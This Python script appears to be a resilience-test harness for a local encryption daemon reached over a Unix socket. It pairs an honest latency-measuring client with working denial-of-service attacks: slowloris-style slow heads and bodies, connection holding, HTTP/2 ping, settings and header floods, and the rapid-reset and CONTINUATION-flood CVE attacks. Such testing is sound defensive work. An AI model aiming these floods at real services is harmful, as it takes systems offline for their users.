"""Attacks on the socket of a running keyringd, and an honest client beside them: attack.py SOCKET NAME [NUMBER...].

Each prints one JSON line with its result. Attacks that hold something print a line first and hold it until standard input
ends. Python's standard library only, no state, less than 30 s each."""

import base64
import collections
import http.client
import json
import os
import resource
import select
import socket
import sys
import threading
import time

ENCRYPT = "/v1/transit/encrypt/keyring"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9


def connect(path):
    stream = socket.socket(socket.AF_UNIX)
    stream.settimeout(240)
    stream.connect(path)
    return stream


class Connection(http.client.HTTPConnection):
    """HTTP/1.1 over a Unix socket."""

    def __init__(self, path):
        super().__init__("localhost", timeout=60)
        self.path = path

    def connect(self):
        self.sock = connect(self.path)

    def ask(self, method, path, body=None, headers=None):
        self.request(method, path, body, headers or {})
        response = self.getresponse()
        return response.status, response.read()


def report(**fields):
    print(json.dumps(fields), flush=True)


def hold(**fields):
    """Reports, then keeps everything open until the caller closes standard input."""
    report(**fields)
    sys.stdin.read()


def at_once(count, work):
    """Runs `work(number)` in that many threads and counts what they return."""
    results = collections.Counter()
    lock = threading.Lock()

    def run(number):
        try:
            outcome = work(number)
        except OSError as error:
            outcome = type(error).__name__
        except http.client.HTTPException as error:
            outcome = type(error).__name__
        with lock:
            results[str(outcome)] += 1

    threads = [threading.Thread(target=run, args=(number,)) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results


def bodies(path, body, count, target=ENCRYPT, kind="application/json"):
    def send(_):
        return Connection(path).ask("POST", target, body, {"Content-Type": kind})[0]

    report(statuses=at_once(count, send))


def json_bodies(path, count, size):
    """Encrypts `count` plaintexts whose JSON has `size` bytes, all at once."""
    bodies(path, b'{"plaintext":"' + b"A" * (size // 4 * 4) + b'"}', count)


def escaped_bodies(path, count, size):
    """The same with every slash escaped, as PHP writes JSON."""
    bodies(path, b'{"plaintext":"' + b"\\/" * (size // 8 * 4) + b'"}', count)


def batches(path, count, items):
    """Encrypts `count` batches of `items` short plaintexts, all at once."""
    body = json.dumps({"batch_input": [{"plaintext": "YQ==", "reference": "r"}] * items}).encode()
    bodies(path, body, count)


def raw_bodies(path, count, size):
    bodies(path, b"A" * size, count, kind="application/octet-stream")


def mixed(path, rounds, size):
    """Encrypts, decrypts and rewraps in both shapes at once: JSON and bytes."""
    _, sealed = Connection(path).ask("POST", ENCRYPT, b'{"plaintext":"' + b"A" * (size // 4 * 4) + b'"}')
    ciphertext = json.dumps({"ciphertext": json.loads(sealed)["data"]["ciphertext"]}).encode()
    raw = {"Content-Type": "application/octet-stream"}
    plain = b'{"plaintext":"' + b"A" * (size // 4 * 4) + b'"}'
    work = [
        ("encrypt", plain, {}),
        ("decrypt", ciphertext, {}),
        ("rewrap", ciphertext, {}),
        ("encrypt", b"A" * size, raw),
    ]

    def send(number):
        operation, body, headers = work[number % len(work)]
        return Connection(path).ask("POST", f"/v1/transit/{operation}/keyring", body, headers)[0]

    report(statuses=at_once(rounds * len(work), send))


def keep_alive(path, count, size):
    """Sends one request of `size` bytes on each of `count` connections, and keeps the connections open. It is refused once
    it was read, which is fast: the bytes are no ciphertext."""
    body, octets = b"A" * size, {"content-type": "application/octet-stream"}
    statuses, held = collections.Counter(), []
    for _ in range(count):
        connection = Connection(path)
        try:
            statuses[connection.ask("POST", ENCRYPT.replace("encrypt", "decrypt"), body, octets)[0]] += 1
            held.append(connection)
        except (OSError, http.client.HTTPException) as error:
            statuses[type(error).__name__] += 1
    hold(statuses=statuses, held=len(held))


def one_byte(path, count, _=0):
    """Opens `count` connections that each send one byte of a request, opens them again when they are closed."""
    held = []

    def open_one():
        stream = connect(path)
        stream.send(b"P")
        held.append(stream)

    for _ in range(count):
        open_one()
    report(held=len(held))
    while not select.select([sys.stdin], [], [], 0.05)[0]:
        for stream in held[:]:
            try:
                if stream.recv(1, socket.MSG_DONTWAIT) == b"":
                    held.remove(stream)
                    stream.close()
                    open_one()
            except BlockingIOError:
                pass
            except OSError:
                held.remove(stream)


def unfinished(path, count, size):
    """Keeps `count` bodies of `size` bytes unfinished by one byte; begins again whenever one is refused."""
    stop = threading.Event()
    head = f"POST {ENCRYPT} HTTP/1.1\r\nhost: x\r\ncontent-length: {size + 1}\r\n\r\n".encode()

    def send(_):
        while not stop.is_set():
            try:
                stream = connect(path)
                stream.sendall(head + b"A" * size)
                stream.settimeout(0.5)
                while not stop.is_set():
                    try:
                        if stream.recv(1 << 16) == b"":
                            break
                    except socket.timeout:
                        pass
            except OSError:
                stop.wait(0.05)

    sending = threading.Thread(target=at_once, args=(count, send))
    sending.start()
    report(count=count)
    sys.stdin.read()
    stop.set()
    sending.join()


def unread(path, count, size):
    """Sends requests with large responses on `count` connections and never reads a response."""
    body = b'{"plaintext":"' + b"A" * (size // 4 * 4) + b'"}'
    head = f"POST {ENCRYPT} HTTP/1.1\r\nhost: x\r\ncontent-length: {len(body)}\r\n\r\n".encode()
    held = []
    for _ in range(count):
        stream = connect(path)
        stream.settimeout(2)
        try:
            stream.sendall(head + body)
        except OSError:
            pass
        held.append(stream)
    hold(held=len(held))


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(index, value):
    """A header field with an indexed name and a literal value that is not indexed (RFC 7541, 6.2.2)."""
    first = bytes([index]) if index < 15 else bytes([15, index - 15])
    return first + bytes([len(value)]) + value


def h2_heads(path, connections, streams, fields=430):
    """Opens calls of many one-byte header fields whose bodies never end. A field is one indexed octet."""
    call = bytes([0x83, 0x86]) + text(4, b"/v2.KeyManagementService/Encrypt") + text(31, b"application/grpc")
    call += bytes([0x40, 1]) + b"a" + bytes([1]) + b"b" + bytes([0x80 | 62]) * fields
    sent, held, failed = 0, [], 0
    for _ in range(connections):
        try:
            stream = connect(path)
            stream.settimeout(2)
            held.append(stream)
            stream.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            for number in range(streams):
                block = frame(HEADERS, 4, 2 * number + 1, call)
                stream.sendall(block)
                sent += len(block)
        except OSError:
            failed += 1
    hold(sent=sent, failed=failed)


def h2_flood(path, seconds, frames, first=b"", stream_of=None):
    """Sends these frames again and again for some seconds, behind the first ones, and never reads. Each round of a
    connection gets them from `stream_of`, if they need new streams."""
    end = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < end:
        stream = connect(path)
        stream.settimeout(0.2)
        try:
            stream.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + first)
            number = 1
            while time.monotonic() < end:
                stream.sendall(frames if stream_of is None else stream_of(number))
                number += 200
                sent += 1
        except OSError:
            pass
        stream.close()
    report(frames=sent * 500)


def h2_noise(path, seconds):
    """Acknowledgements of pings that nobody sent, for which h2 writes a warning each."""
    h2_flood(path, seconds, frame(PING, 1, 0, b"x" * 8) * 500)


def h2_pings(path, seconds):
    """Pings, whose answers are never read."""
    h2_flood(path, seconds, frame(PING, 0, 0, b"x" * 8) * 500)


def h2_settings(path, seconds):
    h2_flood(path, seconds, frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (1 << 16).to_bytes(4, "big")) * 500)


def h2_resets(path, seconds):
    """Calls that are reset at once (CVE-2023-44487)."""
    call = bytes([0x83, 0x86]) + text(4, b"/v2.KeyManagementService/Encrypt") + text(31, b"application/grpc")

    def calls(first):
        streams = range(first, first + 200, 2)
        return b"".join(frame(HEADERS, 4, n, call) + frame(RST_STREAM, 0, n, bytes([0, 0, 0, 8])) for n in streams)

    h2_flood(path, seconds, b"", stream_of=calls)


def h2_continuations(path, seconds):
    """The head of a call that never ends (CVE-2024-27316)."""
    first = frame(HEADERS, 0, 1, bytes([0x83, 0x86]))
    h2_flood(path, seconds, frame(CONTINUATION, 0, 1, bytes([0x86])) * 500, first)


def drip(path, count, start, piece):
    """Sends `start` on `count` connections, then a piece on each every 100 ms; opens those again that are closed."""
    held = []

    def open_one():
        stream = connect(path)
        stream.sendall(start)
        stream.setblocking(False)
        held.append(stream)

    for _ in range(count):
        open_one()
    report(held=len(held))
    while not select.select([sys.stdin], [], [], 0.1)[0]:
        for stream in held[:]:
            try:
                stream.send(piece)
            except BlockingIOError:
                pass
            except OSError:
                held.remove(stream)
                stream.close()
                try:
                    open_one()
                except OSError:
                    pass


def slow_heads(path, count, _=0):
    """A request's head that never ends, field by field."""
    drip(path, count, b"POST / HTTP/1.1\r\nhost: x\r\n", b"x: y\r\n")


def slow_bodies(path, count, size):
    """Bodies that arrive a few bytes at a time."""
    head = f"POST {ENCRYPT} HTTP/1.1\r\nhost: x\r\ncontent-length: {size}\r\n\r\n".encode()
    drip(path, count, head + b"A" * (32 << 10), b"A" * 16)


def requests(path, seconds, threads, target="/keyring/vault/sync", body=""):
    """Sends one request after another on `threads` connections for some seconds."""
    end = time.monotonic() + seconds
    statuses = collections.Counter()
    lock = threading.Lock()

    def send(_):
        connection = Connection(path)
        while time.monotonic() < end:
            try:
                status, _ = connection.ask("POST", target, body, {"Content-Type": "application/json"})
            except (OSError, http.client.HTTPException):
                status, connection = 0, Connection(path)
            with lock:
                statuses[status] += 1

    at_once(threads, send)
    report(statuses=statuses)


def guesses(path, seconds, threads):
    requests(path, seconds, threads, body='{"token":"a-wrong-one"}')


def refused(path, seconds, threads):
    requests(path, seconds, threads, target=ENCRYPT, body='{"plaintext":"!"}')


def honest(path, seconds, pause_ms):
    """Encrypts 1 KiB on new and on kept connections, and measures each request from connecting to the response."""
    body = json.dumps({"plaintext": base64.b64encode(b"A" * 1024).decode()})
    end = time.monotonic() + seconds
    times, failures = [], collections.Counter()
    kept = None
    while time.monotonic() < end:
        begun = time.monotonic()
        try:
            if kept is None or len(times) % 2:
                kept = Connection(path)
            status, _ = kept.ask("POST", ENCRYPT, body)
            if status != 200:
                failures[status] += 1
        except (OSError, http.client.HTTPException) as error:
            failures[type(error).__name__] += 1
            kept = None
        times.append(time.monotonic() - begun)
        time.sleep(pause_ms / 1000)
    times.sort()
    p99 = times[min(len(times) - 1, len(times) * 99 // 100)]
    report(count=len(times), failures=failures, p99_ms=p99 * 1000, max_ms=times[-1] * 1000)


def too_large(path, size):
    """A body over the limit, sent whole before anything is read, as http.client does. A busy machine may take longer to send
    it than the daemon receives it: then the connection ends, and it tries again."""
    for left in (2, 1, 0):
        try:
            status, answer = Connection(path).ask("POST", ENCRYPT, b"A" * size)
            return report(status=status, errors=json.loads(answer)["errors"])
        except (OSError, http.client.HTTPException):
            if not left:
                raise


if __name__ == "__main__":
    limits = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (limits[1], limits[1]))
    globals()[sys.argv[2]](sys.argv[1], *(int(word) for word in sys.argv[3:]))
